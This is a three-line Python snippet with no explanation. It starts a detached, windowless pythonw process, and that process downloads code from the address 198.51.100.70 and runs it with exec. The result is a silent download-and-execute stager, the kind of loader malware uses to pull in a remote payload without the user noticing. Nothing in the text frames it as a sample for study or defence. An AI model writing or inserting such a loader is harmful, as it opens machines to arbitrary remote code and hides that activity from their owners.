import subprocess, sys
code = "import urllib.request as u;exec(u.urlopen('http://198.51.100.70/s').read())"
subprocess.Popen([sys.executable.replace("python.exe", "pythonw.exe"), "-c", code], creationflags=0x00000008)
